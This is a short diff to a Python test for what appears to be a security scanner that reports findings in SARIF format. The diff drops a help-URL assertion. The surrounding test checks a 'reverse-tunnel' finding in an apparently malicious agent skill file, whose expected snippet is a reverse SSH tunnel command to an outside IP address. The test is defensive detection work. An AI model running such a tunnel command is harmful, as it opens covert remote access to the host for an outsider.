@@ -36,7 +36,6 @@ def test_a_result_points_to_its_rule_and_place(render, rogue, rules):
     rule = run["tool"]["driver"]["rules"][result["ruleIndex"]]
     assert rule["id"] == result["ruleId"] == "reverse-tunnel"
     assert rule["properties"]["security-severity"] == "9.5"
-    assert rule["helpUri"] == "https://docs.example/rules/reverse-tunnel"
     physical = result["locations"][0]["physicalLocation"]
     assert physical["artifactLocation"]["uri"] == "skills/rogue%20miner/SKILL.md"
     assert physical["region"]["snippet"]["text"] == "ssh -fNR 2222:localhost:22 ops@203.0.113.7"
